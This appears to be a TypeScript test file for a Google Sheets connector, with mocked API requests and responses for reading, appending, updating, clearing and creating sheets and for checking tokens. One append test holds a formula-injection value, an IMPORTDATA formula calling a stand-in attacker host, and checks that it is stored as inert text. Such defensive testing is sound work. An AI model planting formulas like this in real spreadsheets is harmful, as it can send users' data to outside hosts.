import { casesOf } from './case-builders';

const { gives, fails } = casesOf({ access_token: 'ya29.0123456789' }, { authorization: 'Bearer ya29.0123456789' });

const SHEET = { spreadsheet_id: '1BxiMVs0' };
const VALUES = '/v4/spreadsheets/1BxiMVs0/values';
const READ = {
  query: { majorDimension: 'ROWS', valueRenderOption: 'UNFORMATTED_VALUE', dateTimeRenderOption: 'FORMATTED_STRING' },
};
const TABLE = {
  range: "'Orders 2026'!A3:C6",
  majorDimension: 'ROWS',
  values: [
    ['email', 'item', 'price'],
    ['ada@example.com', 'pen', 2],
    ['grace@example.com', 'ink'],
  ],
};
const CHANGED = { updatedRange: 'Orders!A1:B1', updatedRows: 1, updatedColumns: 2, updatedCells: 2 };
const DOCUMENT = {
  spreadsheetId: '1BxiMVs0',
  spreadsheetUrl: 'https://docs.example/1BxiMVs0',
  properties: { title: 'Orders' },
  sheets: [
    { properties: { sheetId: 0, title: 'Orders', index: 0, gridProperties: { rowCount: 1000, columnCount: 26 } } },
  ],
};
const SHOWN = { sheet_id: 0, title: 'Orders', index: 0, rows: 1000, columns: 26 };
const SHEET_OUTPUT = {
  spreadsheet_id: '1BxiMVs0',
  url: 'https://docs.example/1BxiMVs0',
  title: 'Orders',
  sheets: [SHOWN],
};

const lookup = (title: string, column: string, value: string | number, output: Parameters<typeof gives>[4]) =>
  gives(
    ['lookup_row', title],
    { ...SHEET, range: 'Orders 2026!A3:C', column, value },
    [`GET ${VALUES}/Orders%202026!A3%3AC`, READ],
    TABLE,
    output,
  );

export const cases = [
  gives(
    ['read_range', 'rows, and the same by the names in the first'],
    { ...SHEET, range: 'Orders 2026!A3:C6', header: true },
    [`GET ${VALUES}/Orders%202026!A3%3AC6`, READ],
    TABLE,
    {
      range: TABLE.range,
      rows: TABLE.values,
      records: [
        { email: 'ada@example.com', item: 'pen', price: 2 },
        { email: 'grace@example.com', item: 'ink', price: '' },
      ],
      count: 3,
    },
  ),
  gives(
    ['read_range', 'cells that are empty are left out by the provider'],
    { ...SHEET, range: 'Empty', values: 'FORMULA' },
    [`GET ${VALUES}/Empty`, { query: { ...READ.query, valueRenderOption: 'FORMULA' } }],
    { range: 'Empty!A1:Z1000', majorDimension: 'ROWS' },
    { range: 'Empty!A1:Z1000', rows: [], count: 0 },
  ),
  fails(
    ['read_range', 'a range that is none'],
    { ...SHEET, range: 'Nowhere!A1' },
    [`GET ${VALUES}/Nowhere!A1`, READ],
    {
      status: 400,
      json: { error: { code: 400, message: 'Unable to parse range: Nowhere!A1', status: 'INVALID_ARGUMENT' } },
    },
    { code: 'INVALID_ARGUMENT', message: 'Unable to parse range: Nowhere!A1' },
  ),
  fails(
    ['read_range', 'too many reads may be tried again'],
    { ...SHEET, range: 'Orders' },
    [`GET ${VALUES}/Orders`, READ],
    { status: 429, json: { error: { code: 429, message: 'Quota exceeded', status: 'RESOURCE_EXHAUSTED' } } },
    { code: 'RESOURCE_EXHAUSTED', message: 'Quota exceeded', retryable: true },
  ),
  lookup('a row is found, with its number in the sheet', 'email', 'grace@example.com', {
    found: true,
    row_number: 5,
    row: { email: 'grace@example.com', item: 'ink', price: '' },
  }),
  lookup('a number and a text that looks the same are the same', 'price', '2', {
    found: true,
    row_number: 4,
    row: { email: 'ada@example.com', item: 'pen', price: 2 },
  }),
  lookup('there may be no such row', 'email', 'eve@example.com', { found: false }),
  lookup('there may be no such column', 'colour', 'red', { found: false }),
  gives(
    ['append_rows', 'rows are appended as they are: untrusted text does not become a formula'],
    { ...SHEET, range: 'Orders', rows: [['=IMPORTDATA("https://evil.example")', 2]] },
    [
      `POST ${VALUES}/Orders:append?valueInputOption=RAW&insertDataOption=INSERT_ROWS`,
      { body: { majorDimension: 'ROWS', values: [['=IMPORTDATA("https://evil.example")', 2]] } },
    ],
    { spreadsheetId: '1BxiMVs0', tableRange: 'Orders!A1:B9', updates: CHANGED },
    CHANGED,
  ),
  gives(
    ['update_range', 'cells are written as if typed, where the author says so'],
    { ...SHEET, range: 'Orders!A1:B1', rows: [['=A', null]], as: 'USER_ENTERED' },
    [
      `PUT ${VALUES}/Orders!A1%3AB1?valueInputOption=USER_ENTERED`,
      { body: { range: 'Orders!A1:B1', majorDimension: 'ROWS', values: [['=A', null]] } },
    ],
    CHANGED,
  ),
  gives(
    ['replace_row', 'a row is written by its number; the name of its sheet cannot lead elsewhere'],
    { ...SHEET, sheet: "Ada's", row_number: 12, cells: ['pen', 2] },
    [
      `PUT ${VALUES}/'Ada''s'!A12?valueInputOption=RAW`,
      { body: { range: "'Ada''s'!A12", majorDimension: 'ROWS', values: [['pen', 2]] } },
    ],
    CHANGED,
  ),
  gives(
    ['clear_range', 'cells are emptied'],
    { ...SHEET, range: 'Orders!A2:B' },
    [`POST ${VALUES}/Orders!A2%3AB:clear`, { body: {} }],
    { spreadsheetId: '1BxiMVs0', clearedRange: 'Orders!A2:B1000' },
  ),
  gives(
    ['create_spreadsheet', 'a spreadsheet is created'],
    { title: 'Orders', sheets: ['Orders'] },
    [
      'POST /v4/spreadsheets',
      { body: { properties: { title: 'Orders' }, sheets: [{ properties: { title: 'Orders' } }] } },
    ],
    DOCUMENT,
    SHEET_OUTPUT,
  ),
  gives(
    ['list_sheets', 'sheets are listed'],
    SHEET,
    'GET /v4/spreadsheets/1BxiMVs0?fields=spreadsheetId,spreadsheetUrl,properties.title,sheets.properties',
    DOCUMENT,
    SHEET_OUTPUT,
  ),
  gives(
    ['add_sheet', 'a sheet is added'],
    { ...SHEET, title: 'Orders' },
    [
      'POST /v4/spreadsheets/1BxiMVs0:batchUpdate',
      { body: { requests: [{ addSheet: { properties: { title: 'Orders' } } }] } },
    ],
    { spreadsheetId: '1BxiMVs0', replies: [{ addSheet: DOCUMENT.sheets[0] ?? null }] },
    { sheet: SHOWN },
  ),
  gives(
    ['check_token', 'the token is looked at, and stands in no address'],
    {},
    ['POST /tokeninfo', { form: { access_token: 'ya29.0123456789' } }],
    { aud: 'app', scope: 'https://www.googleapis.com/auth/spreadsheets', expires_in: '3599' },
    { scope: 'https://www.googleapis.com/auth/spreadsheets', expires_in: 3599 },
  ),
  fails(
    ['check_token', 'a token that counts no more'],
    {},
    ['POST /tokeninfo', { form: { access_token: 'ya29.0123456789' } }],
    { status: 400, json: { error: 'invalid_token', error_description: 'Invalid Value' } },
    { code: 'unknown_connection', message: 'There is no other connection' },
  ),
];
